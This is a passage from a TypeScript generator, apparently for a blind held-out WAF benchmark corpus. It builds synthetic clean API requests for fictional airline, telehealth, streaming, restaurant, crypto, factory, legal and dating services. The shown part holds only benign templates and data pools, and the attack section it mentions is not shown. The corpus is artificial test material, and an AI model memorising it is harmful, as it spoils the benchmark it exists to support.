// biome-ignore-all lint/suspicious/noTemplateCurlyInString: payloads hold literal ${…}
/**
 * Held-out WAF corpus 14 (blind): clean JSON-API traffic and attacks for eight domains
 * (airline, telehealth/pharmacy, streaming/subtitles, restaurants, crypto exchange, MES/IoT,
 * legal e-discovery, dating). Deterministic: a seeded mulberry32 PRNG drives every choice.
 * Run `node bench/waf/corpus/heldout14.ts` to write clean-heldout14.json and attacks-heldout14.json.
 */
import { writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import type { CorpusRequest } from './generate.ts';

type Rng = () => number;

/** mulberry32: small deterministic PRNG. */
function mulberry32(seed: number): Rng {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const rng = mulberry32(0x14a7e5d3);
const pick = <T>(a: readonly T[]): T => a[Math.floor(rng() * a.length)] as T;
const int = (lo: number, hi: number): number => lo + Math.floor(rng() * (hi - lo + 1));
const chance = (p: number): boolean => rng() < p;
const ALNUM = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789';
const str = (n: number, alphabet = ALNUM): string => {
  let s = '';
  for (let i = 0; i < n; i++) s += alphabet[Math.floor(rng() * alphabet.length)];
  return s;
};
const hex = (n: number): string => str(n, '0123456789abcdef');
const upper = (n: number): string => str(n, 'ABCDEFGHJKLMNPQRSTUVWXYZ23456789');
const uuid = (): string => `${hex(8)}-${hex(4)}-4${hex(3)}-${pick(['8', '9', 'a', 'b'])}${hex(3)}-${hex(12)}`;
const b64 = (s: string): string => Buffer.from(s, 'utf8').toString('base64');
const b64url = (s: string): string => Buffer.from(s, 'utf8').toString('base64url');
const enc = encodeURIComponent;
const money = (lo: number, hi: number): string => (lo + rng() * (hi - lo)).toFixed(2);
const isoDate = (): string =>
  `2025-${String(int(1, 12)).padStart(2, '0')}-${String(int(1, 28)).padStart(2, '0')}`;
const isoTs = (): string =>
  `${isoDate()}T${String(int(0, 23)).padStart(2, '0')}:${String(int(0, 59)).padStart(2, '0')}:${String(int(0, 59)).padStart(2, '0')}.${String(int(0, 999)).padStart(3, '0')}Z`;
const qs = (o: Record<string, string | number | boolean>): string =>
  Object.entries(o)
    .map(([k, v]) => `${enc(k)}=${enc(String(v))}`)
    .join('&');

// ---------------------------------------------------------------- headers

const BROWSER_UA = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Safari/605.1.15',
  'Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36 Edg/130.0.0.0',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1',
  'Mozilla/5.0 (Linux; Android 14; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.6778.81 Mobile Safari/537.36',
];
const MOBILE_UA = [
  'SkylarkAir/7.12.0 (iPhone15,2; iOS 18.1; Scale/3.00)',
  'okhttp/4.12.0',
  'Dalvik/2.1.0 (Linux; U; Android 13; Pixel 7 Build/TQ3A.230901.001)',
  'CFNetwork/1568.200.51 Darwin/24.1.0',
  'Kindred/5.3.1 (com.kindred.dating; build:5310; iOS 17.6.1) Alamofire/5.9.1',
  'TableTime-Android/3.44.2 (Samsung SM-A546B; Android 14)',
];
const SDK_UA = [
  'axios/1.7.7',
  'python-requests/2.32.3',
  'Go-http-client/2.0',
  'node-fetch/1.0 (+https://github.com/bitinn/node-fetch)',
  'Java/17.0.12',
  'Apache-HttpClient/4.5.14 (Java/11.0.22)',
  'Faraday v2.12.0',
  'undici',
  'PostmanRuntime/7.42.0',
  'ccxt/4.4.31 (+https://github.com/ccxt/ccxt) Python/3.12',
];
const CURL_UA = ['curl/8.5.0', 'curl/7.88.1', 'curl/8.10.1', 'Wget/1.21.4', 'HTTPie/3.2.4'];
const LANGS = [
  'en-US,en;q=0.9',
  'de-DE,de;q=0.9,en;q=0.8',
  'fr-FR,fr;q=0.9,en-US;q=0.8,en;q=0.7',
  'es-MX,es;q=0.9',
  'ja-JP,ja;q=0.9,en;q=0.6',
  'pt-BR,pt;q=0.9,en;q=0.8',
  'en-GB,en;q=0.9',
  'nl-NL,nl;q=0.9,en;q=0.8',
];

type Style = 'browser' | 'mobile' | 'sdk' | 'curl';

const jwt = (sub: string): string =>
  `${b64url('{"alg":"RS256","typ":"JWT","kid":"' + hex(8) + '"}')}.${b64url(
    JSON.stringify({ sub, iat: 1735000000 + int(0, 9999999), exp: 1765000000, scope: 'read write' }),
  )}.${str(86, `${ALNUM}-_`)}`;

interface HdrOpts {
  readonly style?: Style;
  readonly ct?: string | null;
  readonly accept?: string;
  readonly extra?: Record<string, string>;
}

function headers(host: string, opts: HdrOpts = {}): Record<string, string> {
  const style = opts.style ?? pick<Style>(['browser', 'browser', 'mobile', 'sdk', 'curl']);
  const h: Record<string, string> = { host };
  if (style === 'browser') {
    h['user-agent'] = pick(BROWSER_UA);
    h.accept = opts.accept ?? 'application/json, text/plain, */*';
    h['accept-language'] = pick(LANGS);
    h['accept-encoding'] = 'gzip, deflate, br, zstd';
    h.origin = `https://${host.replace(/^api\./, 'www.')}`;
    h.referer = `https://${host.replace(/^api\./, 'www.')}/${pick(['account', 'dashboard', 'app', 'checkout', ''])}`;
    h['sec-fetch-mode'] = 'cors';
    h['sec-fetch-site'] = 'same-site';
    if (chance(0.5)) {
      h.cookie = `session=${str(32)}; _ga=GA1.1.${int(100000000, 999999999)}.${int(1600000000, 1735000000)}; csrftoken=${str(32)}`;
      h['x-csrf-token'] = str(40);
    } else h.authorization = `Bearer ${jwt(uuid())}`;
  } else if (style === 'mobile') {
    h['user-agent'] = pick(MOBILE_UA);
    h.accept = opts.accept ?? 'application/json';
    h['accept-language'] = pick(LANGS).split(',')[0] ?? 'en-US';
    h.authorization = `Bearer ${jwt(uuid())}`;
    h['x-device-id'] = uuid().toUpperCase();
    h['x-app-version'] = `${int(3, 9)}.${int(0, 40)}.${int(0, 9)}`;
  } else if (style === 'sdk') {
    h['user-agent'] = pick(SDK_UA);
    h.accept = opts.accept ?? 'application/json';
    if (chance(0.5)) h.authorization = `Bearer ${jwt(uuid())}`;
    else h['x-api-key'] = `${pick(['sk_live_', 'pk_', 'key_', ''])}${str(32)}`;
    h['x-request-id'] = uuid();
  } else {
    h['user-agent'] = pick(CURL_UA);
    h.accept = opts.accept ?? '*/*';
    h.authorization = chance(0.7)
      ? `Bearer ${str(40)}`
      : `Basic ${b64(`svc-${str(6).toLowerCase()}:${str(20)}`)}`;
  }
  if (opts.ct) h['content-type'] = opts.ct;
  if (opts.extra) Object.assign(h, opts.extra);
  return h;
}

const JSON_CT = ['application/json', 'application/json; charset=utf-8', 'application/json;charset=UTF-8'];

interface Req {
  method: string;
  path: string;
  headers: Record<string, string>;
  body: string;
}

const jsonReq = (method: string, host: string, path: string, body: unknown, opts: HdrOpts = {}): Req => ({
  method,
  path,
  headers: headers(host, { ct: opts.ct ?? pick(JSON_CT), ...opts }),
  body: JSON.stringify(body),
});
const getReq = (host: string, path: string, opts: HdrOpts = {}): Req => ({
  method: 'GET',
  path,
  headers: headers(host, { ...opts, ct: null }),
  body: '',
});

interface Part {
  readonly name: string;
  readonly value: string;
  readonly filename?: string;
  readonly type?: string;
}
function multipart(parts: readonly Part[]): { ct: string; body: string } {
  const boundary = pick([
    `----WebKitFormBoundary${str(16)}`,
    `--------------------------${str(24, '0123456789')}`,
    `dart-http-boundary-${str(40, 'abcdefghijklmnopqrstuvwxyz0123456789-+_.')}`,
    `${uuid()}`,
  ]);
  let body = '';
  for (const p of parts) {
    body += `--${boundary}\r\nContent-Disposition: form-data; name="${p.name}"`;
    if (p.filename !== undefined) body += `; filename="${p.filename}"`;
    body += '\r\n';
    if (p.type) body += `Content-Type: ${p.type}\r\n`;
    body += `\r\n${p.value}\r\n`;
  }
  body += `--${boundary}--\r\n`;
  return { ct: `multipart/form-data; boundary=${boundary}`, body };
}
const mpReq = (host: string, path: string, parts: readonly Part[], style?: Style, method = 'POST'): Req => {
  const m = multipart(parts);
  return { method, path, headers: headers(host, { ct: m.ct, ...(style ? { style } : {}) }), body: m.body };
};
const formReq = (host: string, path: string, fields: Record<string, string>, style?: Style): Req => ({
  method: 'POST',
  path,
  headers: headers(host, {
    ct: pick(['application/x-www-form-urlencoded', 'application/x-www-form-urlencoded; charset=UTF-8']),
    ...(style ? { style } : {}),
  }),
  body: Object.entries(fields)
    .map(([k, v]) => `${enc(k)}=${enc(v).replace(/%20/g, '+')}`)
    .join('&'),
});

// ---------------------------------------------------------------- data pools

const H = {
  air: 'api.skylark-air.com',
  med: 'api.carewell-health.com',
  tv: 'api.reelhouse.tv',
  food: 'api.tabletime.app',
  cx: 'api.kestrel-exchange.io',
  mes: 'mes.fabrikon-works.de',
  law: 'api.lexvault-discovery.com',
  date: 'api.kindred-match.com',
} as const;

const FIRST = [
  'Maria',
  'João',
  'Aiko',
  'Liam',
  "O'Brien",
  'Zoë',
  'Mehmet',
  'Priya',
  'Chen',
  'Fatima',
  'Søren',
  'Ana-Lucía',
  'Dmitri',
  'Kwame',
  'Élodie',
  'Hiroshi',
];
const LAST = [
  'García',
  'Müller',
  "D'Angelo",
  'Nakamura',
  'Okafor',
  'Smith-Jones',
  'Van der Berg',
  'Kowalski',
  'Nguyễn',
  'Al-Sayed',
  'Johansson',
  'Rossi',
  'Dubois',
  'Patel',
];
const AIRPORTS = [
  'JFK',
  'LHR',
  'FRA',
  'CDG',
  'NRT',
  'GRU',
  'SYD',
  'DXB',
  'SFO',
  'MAD',
  'AMS',
  'YYZ',
  'SIN',
  'MEX',
];
const DRUGS = [
  'Amoxicillin 500 mg',
  'Metformin 850 mg',
  'Atorvastatin 20 mg',
  'Levothyroxine 50 mcg',
  'Sertraline 50 mg',
  'Lisinopril 10 mg',
  'Salbutamol 100 mcg/dose',
  'Ibuprofen 400 mg',
];
const TITLES = [
  'The Quiet Harbour',
  'Neon Drift S2',
  'Salt & Ash',
  'Kaiju Kitchen',
  'La Casa del Río',
  'Midnight Ledger',
  'Tokyo Rain (東京の雨)',
  'Cold Case: Aberdeen',
];
const RESTOS = [
  'Osteria Fiamma',
  'Ramen Kagura',
  'Le Petit Zinc',
  'Taquería El Güero',
  'Smoke & Barrel BBQ',
  'Sushi Hana',
  'Café Böhm',
  'The Green Fork',
];
const COINS = ['BTC-USDT', 'ETH-USDT', 'SOL-USDC', 'ETH-BTC', 'XRP-EUR', 'ADA-USDT', 'DOGE-USDT', 'LINK-ETH'];
const MACHINES = [
  'CNC-07',
  'PRESS-2',
  'MOLD-14',
  'LINE3-ROBOT-A',
  'OVEN-5',
  'PACK-11',
  'LATHE-03',
  'WELD-CELL-2',
];
const MATTERS = [
  '2024-CV-01187',
  'ACME v. Northwind',
  'In re Falcon Merger',
  'Doe v. Globex Corp.',
  'M-55021',
  'Project Heron Review',
];
const EMAILS = [
  'maria.garcia@gmail.com',
  'j.nakamura@outlook.jp',
  'liam+travel@proton.me',
  'priya.patel@company.co.uk',
  'kwame.o@yahoo.com',
  'soren@jensen.dk',
];
const name = (): string => `${pick(FIRST)} ${pick(LAST)}`;
const pnr = (): string => upper(6);
const evmAddr = (): string => `0x${hex(40)}`;
const btcAddr = (): string => `bc1q${str(38, 'qpzry9x8gf2tvdw0s3jn54khce6mua7l')}`;

// ---------------------------------------------------------------- prose pools

const PROSE = [
  "Flight got delayed 3h and I missed my connection in FRA. App said 'Error: SEAT_MAP_UNAVAILABLE (503)' when I tried to pick a seat again. Please refund the $45 seat fee!!",
  'Where do I find the e-ticket? The link in the email goes to https://www.skylark-air.com/trips?ref=email&id=88213 and just shows a blank page on Safari 17 :(',
  "tried to drop the promo code & re-add it, same thing. Select 'Economy Light' -> 'Upgrade' -> nothing happens. Console says TypeError: cannot read properties of undefined (reading 'fareClass')",
  'Is row 12 an exit row on the A321neo? Last time (LH 2031) I was in 12A and there was no window, just a wall...',
  "The pharmacist told me 1 tablet 2x/day (morning & evening) but the label says 'every 12 hrs or as needed'. Which one is right? I'm on metformin too, if that matters.",
  "Rash started ~3 days after starting amoxicillin 500mg. Not sure if it's related. Photo attached (IMG_4032.HEIC). Should I stop taking it?",
  "Dr. Okafor was great - 10/10. Video dropped twice though (Chrome on Windows, 'ICE connection failed'). Had to rejoin from my phone.",
  'Subtitles drift by ~2s from 00:41:10,500 onward. The line "Where were you last night?" shows before the guy even opens his mouth. Ep 3, Spanish track.',
  "Why does 'Continue watching' show an episode I already finished? Cleared cache, logged out/in, same. Roku Ultra, app v9.2.1",
  'Best ramen in town <3 broth was rich, noodles perfectly chewy. 5/5 would come back. Tip: ask for the "secret" chili oil 🌶️🌶️',
  "Waited 45 min even with a reservation for 7:30pm. Manager said 'the system double booked table #12'. Food was fine, but not cool.",
  'Tasting menu for 4 + high chair pls. Nut allergy (tree nuts, NOT peanuts) - can the kitchen handle that? Also is 1/2 portion possible for the kids?',
  'Withdrawal stuck on "pending" for 6 hours. TXID 0x3f5a9c0e... shows 14 confirmations on etherscan. Ticket #88213, please escalate.',
  'Why does the API return {"code":-1021,"msg":"Timestamp for this request is outside of the recvWindow."}? Server clock is NTP synced, drift < 50ms.',
  'Stop-limit order triggered at 64,210 but filled at 63,980?? That is > 0.3% slippage on a limit. Order id 7781203341. Please explain.',
  'Line 3 stopped at 14:02 - PLC threw E-STOP, operator reset. Root cause: S-104 reading > 85 °C. Replaced fan; please close WO-2291 once QA signs off.',
  "Spindle vibration on CNC-07 trending up since Monday (RMS 4.1 -> 6.8 mm/s). Not alarming yet but let's schedule bearing check before next shift.",
  "Per section 4.2(b) of the MSA, either party may terminate upon thirty (30) days' written notice; see also Exhibit C. Flag as privileged? -- JM",
  'Reviewer note: doc is a near-duplicate of CTRL00041877 except for the signature block. Coded Responsive / Not Privileged. Redact SSN on p. 3.',
  "6'1\", love hiking & terrible puns. Looking for someone who won't judge my 3 a.m. taco runs 🌮 Swipe right if you can name 3 Miyazaki films.",
  "haha no way, you're into Rust too? I rewrote my side project in it and the borrow checker said no 😅 what are you building?",
  'select all that apply lol: jazz, techno, and whatever my sister plays in the car',
  "I typed my password wrong 3 times and now it says 'account locked; try again in 30 min'. I just want to change my seat, help?",
  'App crashes when I upload a photo > 10MB. Log says:\nFATAL EXCEPTION: main\njava.lang.OutOfMemoryError: Failed to allocate a 48000012 byte allocation\n  at android.graphics.BitmapFactory.nativeDecodeStream(Native Method)',
  'Repro:\n```bash\ncurl -H "Authorization: Bearer <token>" "https://api.kestrel-exchange.io/v3/orders?symbol=BTC-USDT&limit=50"\n```\nreturns 401 even though the key has the trade permission. Same with python-requests.',
  'The file is C:\\Users\\maria\\Downloads\\contract_v3_FINAL(2).docx - can you see it on your side? Upload bar got to 100% then said "failed".',
  "Not sure if this is a bug or me: when I set the filter to status = 'shipped' AND date > last week, the list is empty. Without the date it works.",
  'Great cooking, terrible music. Who plays death metal at a brunch place? 😂 3 stars. (The eggs benedict were 10/10 tho)',
  "Is it OK to take ibuprofen with lisinopril? My GP said 'avoid NSAIDs if possible' but the back pain is killing me. ~400mg once a day max.",
  "Pls add an option to turn off autoplay of the next episode - it's 2am and I'm 4 episodes deeper than I wanted to be 😭",
  'Sensor MOLD-14/T2 reports -3276.8 every ~10 min, looks like an int16 overflow or a disconnected probe. Can someone on 2nd shift check the wiring?',
  "Hey! Your profile says you've been to 40 countries - which one had the best food? Mine is Vietnam, no contest (bún chả in Hanoi!!)",
  "Opposing counsel's production (VOL007) has 1,204 docs with no extracted text - all TIFFs, no OCR. We need to request a re-production w/ load file (DAT + OPT).",
  "Charged twice for the same booking (ref X7K2QP). One shows as 'pending', one 'posted'. Is the pending one going to drop off or do I need to dispute?",
  'Anyone else getting "429 Too Many Requests" on the websocket after ~5 min? I only subscribe to 3 streams. Using ccxt pro.',
  'The delete button on my saved cards does nothing. I want to remove the old Visa ending 4242 - expired in 01/24.',
  "Order #A-10422: 2x pad thai (1 no peanuts!), 1x green curry (mild), spring rolls. We'll be 10 min late, please hold the table.",
  "Got a notification 'Your match sent you a message' but the chat is empty. Restarted the app, still nothing. iOS 18.1, app 5.3.1",
  'Translation of line 214 is wrong: "break a leg" became "rompe una pierna" 🙈 should be something like "¡mucha suerte!"',
  "Work order note: replaced gasket on PRESS-2 (part # GK-2231-B), torque 45 Nm per spec. Old one was cracked at 2 o'clock position. Photos in the folder.",
  "Privilege log entry: email from in-house counsel re: 'draft termination letter' - withhold entirely, attorney-client + work product.",
  "1) Open app 2) tap Wallet > Deposit 3) choose SOL 4) address shows 'undefined'. Screenshot attached. Happened after update 4.8.0.",
  "I wish the lounge access rules were clearer: does the Gold tier include +1 guest on domestic flights or only international? The T&Cs say 'subject to availability'.",
  'Refill request for my inhaler (salbutamol). The last one ran out on Sunday; pharmacy on Main St. said they need a new Rx.',
  "Dinner for two on Saturday, preferably a quiet table - it's our 10th anniversary! Could you put a candle on the dessert? 🎂",
];

const I18N = [
  'Der Film bricht bei 01:12:33 immer ab, Fehlercode 0x80070005. Smart-TV (LG webOS 6). Bitte um Hilfe!',
  "Très bon accueil, mais l'attente était un peu longue (45 min). Le plat du jour — délicieux ! On reviendra.",
  "Mi receta dice 'tomar 1 comprimido cada 8 h', pero la farmacia me dio cápsulas de 250 mg en lugar de 500 mg. ¿Es lo mismo?",
  '字幕がずれています。第3話の12:40あたりから約2秒遅れています。修正お願いします。',
  "Não consegui fazer o check-in online, aparece 'erro interno' — voo SK 1234 amanhã às 06:15. O que faço?",
  'Мой вывод средств висит уже 3 часа в статусе «в обработке». Сеть TRC20, сумма 250 USDT.',
  'أرغب في تغيير موعد الاستشارة إلى يوم الخميس بعد الساعة ٤ مساءً إن أمكن. شكراً',
  '请问积分什么时候到账？我上周乘坐了 SK 887 航班，会员号 SK1234567，但还没有看到里程。',
  '안녕하세요! 프로필 사진 너무 멋져요 😊 주말에 커피 한잔 어때요?',
  'Maschine LATHE-03: Schmierstoffdruck zu niedrig (1,8 bar < 2,5 bar Soll). Auftrag AU-44871 pausiert, Instandhaltung informiert.',
  'Vertragsklausel § 7 Abs. 3 ist unklar: „angemessene Frist" – sollen wir 14 Tage konkretisieren?',
  "Ristorante fantastico, servizio un po' lento ma la carbonara era perfetta. Consigliato! ⭐⭐⭐⭐",
  'Καλησπέρα, θα ήθελα να ακυρώσω την κράτηση για αύριο στις 21:00. Ευχαριστώ!',
  'Merhaba, reçetemdeki ilacın yerine eşdeğerini alabilir miyim? Eczane stokta yok dedi.',
  'Hej! Jag gillar också att vandra – har du varit i Abisko? 🏔️',
  'ยกเลิกการจองโต๊ะวันศุกร์นี้ค่ะ ขอบคุณค่ะ',
  'Prosím o úpravu titulků: ve 2. epizodě chybí diakritika (ě, š, č, ř, ž).',
  'Zamówienie limit na ETH/PLN nie zostało zrealizowane mimo że cena spadła poniżej 12 500 zł. Dlaczego?',
  'हमारी उड़ान रद्द हो गई, कृपया रिफंड की स्थिति बताएं। बुकिंग संदर्भ: QW8R2T',
  'Xin chào, tôi muốn đổi lịch hẹn khám sang thứ Bảy. Cảm ơn bác sĩ!',
];

// ---------------------------------------------------------------- clean templates

type Tpl = () => Req;

const restWrite: Tpl[] = [
  () =>
    jsonReq('POST', H.air, '/api/v2/bookings', {
      offerId: `off_${str(20)}`,
      passengers: [
        {
          type: 'ADT',
          title: pick(['MR', 'MS', 'MRS', 'DR']),
          firstName: pick(FIRST),
          lastName: pick(LAST),
          dateOfBirth: `19${int(55, 99)}-0${int(1, 9)}-1${int(0, 9)}`,
          loyaltyNumber: chance(0.5) ? `SK${int(1000000, 9999999)}` : null,
        },
        ...(chance(0.4)
          ? [{ type: 'CHD', firstName: pick(FIRST), lastName: pick(LAST), dateOfBirth: '2017-06-02' }]
          : []),
      ],
      contact: { email: pick(EMAILS), phone: `+${int(1, 49)} ${int(100, 999)} ${int(1000000, 9999999)}` },
      payment: { method: 'card', token: `tok_${str(24)}`, currency: pick(['EUR', 'USD', 'GBP']) },
    }),
  () =>
    jsonReq(
      'POST',
      H.air,
      `/api/v2/bookings/${pnr()}/ancillaries`,
      {
        items: [
          {
            type: 'BAG',
            weightKg: pick([20, 23, 32]),
            segmentRef: `seg_${int(1, 4)}`,
            passengerRef: 'pax_1',
          },
          {
            type: 'SEAT',
            seat: `${int(1, 40)}${pick(['A', 'C', 'D', 'F'])}`,
            segmentRef: 'seg_1',
            passengerRef: 'pax_1',
          },
        ],
        idempotencyKey: uuid(),
      },
      { style: 'mobile' },
    ),
  () =>
    jsonReq('PUT', H.air, '/api/v2/loyalty/members/me/preferences', {
      seat: pick(['AISLE', 'WINDOW', 'NO_PREFERENCE']),
      meal: pick(['VGML', 'KSML', 'MOML', 'GFML', null]),
      homeAirport: pick(AIRPORTS),
      marketing: { email: chance(0.5), sms: false, push: true },
    }),
  () =>
    jsonReq('POST', H.med, '/api/v1/consultations', {
      patientId: `pat_${str(12)}`,
      type: pick(['video', 'chat', 'phone']),
      reason: pick([
        'Follow-up: blood pressure',
        'Sore throat & fever (38.4°C) since Tuesday',
        'Prescription renewal - levothyroxine',
        'Skin rash, itchy, 2 days',
      ]),
      slot: { start: isoTs(), durationMin: pick([10, 15, 20, 30]) },
      symptoms: ['cough', 'fatigue'].slice(0, int(1, 2)),
      consent: { telehealth: true, version: '2024-09' },
    }),
  () =>
    jsonReq(
      'POST',
      H.med,
      '/api/v1/pharmacy/orders',
      {
        prescriptionId: `rx_${hex(16)}`,
        items: [
          {
            ndc: `${int(10000, 99999)}-${int(100, 999)}-${int(10, 99)}`,
            name: pick(DRUGS),
            qty: pick([30, 60, 90]),
            refill: chance(0.5),
          },
        ],
        delivery: {
          method: pick(['courier', 'pickup', 'mail']),
          address: {
            line1: `${int(1, 999)} ${pick(['Main St', 'Oak Ave', 'Rue de la Paix', 'Hauptstraße'])}`,
            city: pick(['Portland', 'Lyon', 'Berlin', 'Austin']),
            postalCode: String(int(10000, 99999)),
          },
        },
        notes: pick([
          'Leave with concierge',
          'Ring twice, dog barks but is friendly',
          '',
          'Please no substitutions',
        ]),
      },
      { style: 'mobile' },
    ),
  () =>
    jsonReq('POST', H.tv, '/api/playback/sessions', {
      titleId: `tt${int(1000000, 9999999)}`,
      episodeId: chance(0.6) ? `ep_${int(1, 10)}x${String(int(1, 12)).padStart(2, '0')}` : null,
      device: {
        type: pick(['web', 'tvos', 'androidtv', 'roku', 'tizen']),
        drm: pick(['widevine', 'fairplay', 'playready']),
        hdr: chance(0.5),
      },
      positionMs: int(0, 3600000),
      audioLang: pick(['en', 'es', 'de', 'ja', 'pt-BR']),
      subtitleLang: pick(['en', 'es', 'fr', null]),
    }),
  () =>
    jsonReq('POST', H.tv, '/api/watchlist/items', {
      titleId: `tt${int(1000000, 9999999)}`,
      profileId: `prof_${int(1, 5)}`,
      source: pick(['hero_banner', 'search', 'because_you_watched']),
    }),
  () =>
    jsonReq('POST', H.food, '/api/v1/reservations', {
      restaurantId: `rst_${str(10)}`,
      partySize: int(1, 12),
      dateTime: `${isoDate()}T${pick(['18:30', '19:00', '19:45', '20:15', '21:00'])}:00+02:00`,
      guest: {
        name: name(),
        phone: `+1 (${int(200, 999)}) ${int(200, 999)}-${int(1000, 9999)}`,
        email: pick(EMAILS),
      },
      specialRequests: pick([
        'Window table if possible',
        'Birthday - small candle please 🎂',
        'Wheelchair access',
        'Allergic to shellfish & sesame',
        '',
      ]),
      occasion: pick(['birthday', 'anniversary', 'business', null]),
    }),
  () =>
    jsonReq('POST', H.food, `/api/v1/restaurants/rst_${str(10)}/reviews`, {
      rating: int(1, 5),
      title: pick(['Solid spot', 'Not worth the hype', 'Hidden gem!!', 'Meh.', 'Best tacos outside CDMX']),
      body: pick(PROSE.slice(9, 12).concat(PROSE.slice(27, 28))),
      visitDate: isoDate(),
      photos: [`https://cdn.tabletime.app/u/${str(12)}.jpg`],
    }),
  () =>
    jsonReq(
      'POST',
      H.cx,
      '/api/v3/orders',
      {
        symbol: pick(COINS),
        side: pick(['buy', 'sell']),
        type: pick(['limit', 'market', 'stop_limit']),
        price: money(0.1, 70000),
        size: (rng() * 3).toFixed(6),
        timeInForce: pick(['GTC', 'IOC', 'FOK']),
        clientOrderId: `my-bot-${str(10).toLowerCase()}`,
        postOnly: chance(0.3),
      },
      { style: 'sdk' },
    ),
  () =>
    jsonReq('POST', H.cx, '/api/v3/withdrawals', {
      asset: pick(['BTC', 'ETH', 'USDT', 'SOL']),
      network: pick(['ERC20', 'TRC20', 'BTC', 'SOL', 'ARBITRUM']),
      address: chance(0.5) ? evmAddr() : btcAddr(),
      amount: money(0.001, 5000),
      memo: chance(0.3) ? String(int(100000, 99999999)) : '',
      twoFactorCode: String(int(100000, 999999)),
    }),
  () =>
    jsonReq(
      'POST',
      H.mes,
      '/mes/api/work-orders',
      {
        number: `WO-${int(1000, 9999)}`,
        product: { sku: `FW-${upper(4)}-${int(10, 99)}`, revision: pick(['A', 'B', 'C2']) },
        quantity: int(10, 5000),
        line: pick(['LINE-1', 'LINE-2', 'LINE-3']),
        due: isoTs(),
        priority: pick(['low', 'normal', 'high', 'urgent']),
        routing: [
          { op: 10, station: pick(MACHINES), setupMin: int(5, 60) },
          { op: 20, station: pick(MACHINES), setupMin: int(5, 60) },
        ],
      },
      { style: 'sdk' },
    ),
  () =>
    jsonReq(
      'POST',
      H.mes,
      `/mes/api/work-orders/WO-${int(1000, 9999)}/operations/${pick([10, 20, 30])}/complete`,
      {
        operator: `op-${int(100, 999)}`,
        goodQty: int(50, 500),
        scrapQty: int(0, 12),
        scrapReasons: [{ code: pick(['SHORT_SHOT', 'FLASH', 'BURR', 'DIM_OOT']), qty: int(0, 5) }],
        comment: pick(['', 'Tool changed at 11:40', 'Material lot 24-0117 slightly wet - dried 2h @ 80°C']),
      },
      { style: 'browser' },
    ),
  () =>
    jsonReq('POST', H.law, `/api/matters/${enc(pick(MATTERS))}/holds`, {
      custodians: [pick(EMAILS), pick(EMAILS)],
      scope: {
        sources: ['exchange', 'slack', 'gdrive'],
        dateRange: { from: '2021-01-01', to: '2024-06-30' },
      },
      noticeTemplateId: `tpl_${int(1, 30)}`,
      reminderDays: 30,
    }),
  () =>
    jsonReq('POST', H.law, '/api/review/batches/b_' + int(100, 999) + '/coding', {
      documentId: `CTRL${String(int(1, 99999)).padStart(8, '0')}`,
      responsive: pick(['yes', 'no', 'needs_further_review']),
      privilege: pick(['none', 'attorney_client', 'work_product', 'partial']),
      issues: ['breach_of_contract', 'damages'].slice(0, int(0, 2)),
      redactions: chance(0.4)
        ? [{ page: int(1, 40), bbox: [int(0, 500), int(0, 700), int(20, 300), int(10, 40)], reason: 'PII' }]
        : [],
      note: pick([PROSE[18] ?? '', PROSE[40] ?? '', '']),
    }),
  () =>
    jsonReq(
      'POST',
      H.date,
      '/api/v2/likes',
      {
        targetUserId: uuid(),
        source: pick(['discover', 'likes_you', 'standouts']),
        superLike: chance(0.1),
        comment: chance(0.4)
          ? pick(['Your dog is adorable 🐶', 'ok that sunset photo is unreal', 'Miyazaki fan too?!'])
          : null,
      },
      { style: 'mobile' },
    ),
  () =>
    jsonReq(
      'POST',
      H.date,
      `/api/v2/conversations/${uuid()}/messages`,
      {
        clientMessageId: uuid(),
        type: 'text',
        text: pick([
          PROSE[20] ?? '',
          PROSE[31] ?? '',
          'lol same',
          'Coffee on Sat? There is a nice place near Mauerpark ☕',
          'hahaha ok you win',
        ]),
        sentAt: isoTs(),
      },
      { style: 'mobile' },
    ),
  () =>
    jsonReq('PUT', H.date, '/api/v2/profiles/me/filters', {
      ageRange: [int(18, 30), int(31, 60)],
      distanceKm: pick([5, 10, 25, 50, 100]),
      genders: pick([['women'], ['men'], ['women', 'nonbinary'], ['everyone']]),
      dealbreakers: { smoking: chance(0.5), kids: pick(['want', 'dont_want', 'open']) },
    }),
];

const mergePatch: Tpl[] = [
  () =>
    jsonReq(
      'PATCH',
      H.air,
      `/api/v2/bookings/${pnr()}/passengers/pax_${int(1, 3)}`,
      {
        apis: { nationality: pick(['DE', 'US', 'BR', 'JP']), passportNumber: upper(9), expiry: '2031-04-30' },
        meal: null,
      },
      { ct: 'application/merge-patch+json' },
    ),
  () =>
    jsonReq(
      'PATCH',
      H.air,
      '/api/v2/loyalty/members/me',
      {
        address: { line2: null, city: pick(['München', 'São Paulo', 'Zürich', 'Kraków']) },
        nickname: pick(['Mo', 'JJ', 'Zo']),
      },
      { ct: 'application/merge-patch+json' },
    ),
  () =>
    jsonReq(
      'PATCH',
      H.med,
      `/api/v1/patients/pat_${str(12)}`,
      {
        allergies: ['penicillin', 'latex'],
        emergencyContact: {
          name: name(),
          relation: pick(['spouse', 'mother', 'friend']),
          phone: `+44 7${int(100, 999)} ${int(100000, 999999)}`,
        },
        preferredPharmacyId: `ph_${int(1000, 9999)}`,
      },
      { ct: 'application/merge-patch+json' },
    ),
  () =>
    jsonReq(
      'PATCH',
      H.med,
      `/api/v1/consultations/c_${str(10)}`,
      {
        status: pick(['cancelled', 'rescheduled']),
        cancelReason: pick(['Feeling better, thanks', "Can't make it - work meeting", null]),
        slot: { start: isoTs() },
